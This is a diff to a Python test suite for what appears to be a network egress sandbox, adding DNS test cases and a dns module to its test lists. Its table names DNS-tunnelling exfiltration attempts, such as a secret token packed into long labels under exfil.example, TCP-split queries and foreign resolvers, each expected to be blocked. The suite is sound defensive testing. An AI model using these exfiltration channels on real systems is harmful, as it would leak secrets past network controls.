@@ -22,6 +22,7 @@ sys.path.insert(0, HERE + "/../world")
 import browsers  # noqa: E402
 import closed  # noqa: E402
 import crm  # noqa: E402
+import dns  # noqa: E402
 import hostile  # noqa: E402
 import packets  # noqa: E402
 import sight  # noqa: E402
@@ -78,8 +79,10 @@ WAYS = [
     ("dns-long-labels", ["dns", DNS, "TOKEN." + ".".join(["a" * 60] * 3) + ".exfil.example", "1"], "dns-name", "EPERM"),
     ("dns-under-own", ["dns", DNS, "TOKEN.acme.my.salesforce.com", "1"], "dns-name", "EPERM"),
     ("dns-tail", ["dns-tail", DNS, "acme.my.salesforce.com"], "dns-form", "EPERM"),
+    ("dns-opt", ["dns-opt", DNS, "acme.my.salesforce.com"], "dns-form", "EPERM"),
     ("dns-tcp", ["dns-tcp", DNS, "TOKEN.exfil.example"], "dns-name", "ECONNABORTED"),
     ("dns-tcp-tail", ["dns-tcp-tail", DNS, "acme.my.salesforce.com"], "dns-form", "ECONNABORTED"),
+    ("dns-tcp-opt", ["dns-tcp-opt", DNS, "acme.my.salesforce.com"], "dns-form", "ECONNABORTED"),
     ("dns-tcp-split", ["dns-tcp-split", DNS, "TOKEN.exfil.example"], "dns-form", "ECONNABORTED"),
     ("dns-other-resolver", ["udp", AI, "53"], "address-unknown", "EPERM"),
     ("proxy-foreign", ["proxy", "api.ai-vendor.example", "443", "api.ai-vendor.example"], "proxy-name", "ECONNABORTED"),
@@ -763,7 +766,7 @@ def root_attach(w):
         watchdog.wait()
 
 
-ALONE = [policy_cases_in_kernel, match_other_keys, root_attach, kill_keeps, disk_full, refusals] + closed.ALONE + hostile.ALONE + packets.ALONE + tunnels.ALONE + sight.ALONE + crm.ALONE + browsers.ALONE
+ALONE = [policy_cases_in_kernel, match_other_keys, root_attach, kill_keeps, disk_full, refusals] + closed.ALONE + dns.ALONE + hostile.ALONE + packets.ALONE + tunnels.ALONE + sight.ALONE + crm.ALONE + browsers.ALONE
 
 
 def run_case(w, f, alone=False):
